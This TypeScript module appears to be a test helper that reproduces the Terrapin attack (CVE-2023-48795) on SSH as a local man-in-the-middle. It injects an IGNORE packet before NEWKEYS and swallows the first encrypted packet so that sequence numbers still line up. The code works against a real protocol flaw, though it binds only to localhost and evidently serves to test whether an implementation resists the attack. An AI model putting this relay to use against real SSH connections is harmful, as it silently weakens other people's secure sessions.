/**
 * The man in the middle of the Terrapin attack (CVE-2023-48795): it relays a connection, puts an IGNORE message before the
 * NEWKEYS of one side, and swallows what that side sends first under the new keys. Where sequence numbers are not started
 * anew, the one makes up for the other, and nobody notices.
 */
import { once } from 'node:events'
import { connect, createServer, type Socket } from 'node:net'

export interface Meddling {
  /** Packets on their way to that side are meddled with. */
  readonly towards: 'client' | 'server'
  readonly inject?: boolean
  readonly swallow?: boolean
}
export interface Meddler extends AsyncDisposable {
  readonly port: number
  /** What was done so far. */
  readonly done: { injected: number; swallowedBytes: number }
}

const newKeysMessage = 21
/** An unencrypted SSH_MSG_IGNORE with an empty string, RFC 4253 sections 6 and 11.2. */
const ignorePacket = Buffer.from('0000000c060200000000000000000000', 'hex')

interface Part {
  readonly kind: 'plain' | 'newkeys' | 'encrypted'
  readonly bytes: Buffer
}

/** Cuts one direction into its identification line, its packets up to NEWKEYS, and whatever comes then. */
function createSplitter(): (chunk: Buffer) => Part[] {
  let waiting = Buffer.alloc(0)
  let expected: Part['kind'] | 'line' = 'line'
  const length = (): number => {
    if (expected === 'encrypted') return waiting.length
    if (expected === 'line') return waiting.indexOf('\n') + 1
    return waiting.length < 6 ? 0 : 4 + waiting.readUInt32BE(0)
  }
  return (chunk) => {
    waiting = Buffer.concat([waiting, chunk])
    const parts: Part[] = []
    for (let end = length(); end > 0 && end <= waiting.length; end = length()) {
      const bytes = waiting.subarray(0, end)
      waiting = waiting.subarray(end)
      const kind = expected === 'plain' && bytes[5] === newKeysMessage ? 'newkeys' : expected
      parts.push({ kind: kind === 'line' ? 'plain' : kind, bytes })
      expected = kind === 'newkeys' || kind === 'encrypted' ? 'encrypted' : 'plain'
    }
    return parts
  }
}

function relay(from: Socket, to: Socket, { inject, swallow }: Partial<Meddling>, done: Meddler['done']): void {
  const split = createSplitter()
  let swallowing = false
  const pass = ({ kind, bytes }: Part): void => {
    if (kind === 'newkeys') {
      swallowing = swallow === true
      if (inject === true) {
        done.injected++
        to.write(ignorePacket)
      }
    }
    // Our server sends its first packets in one write, and then waits for the client.
    if (kind === 'encrypted' && swallowing) {
      swallowing = false
      done.swallowedBytes += bytes.length
    } else to.write(bytes)
  }
  from.on('data', (chunk) => split(chunk).forEach(pass))
  from.on('end', () => to.end()).on('error', () => to.destroy())
}

/** Listens on a port of its own in front of the server at `serverPort`. */
export async function meddle(serverPort: number, meddling: Meddling): Promise<Meddler> {
  const done = { injected: 0, swallowedBytes: 0 }
  const sockets = new Set<Socket>()
  const server = createServer({ allowHalfOpen: true }, (client) => {
    const upstream = connect({ port: serverPort, host: '127.0.0.1', allowHalfOpen: true })
    for (const socket of [client, upstream]) sockets.add(socket.setNoDelay(true))
    relay(client, upstream, meddling.towards === 'server' ? meddling : {}, done)
    relay(upstream, client, meddling.towards === 'client' ? meddling : {}, done)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  return {
    port: typeof address === 'object' && address !== null ? address.port : 0,
    done,
    async [Symbol.asyncDispose]() {
      server.close()
      for (const socket of sockets) socket.destroy()
    },
  }
}
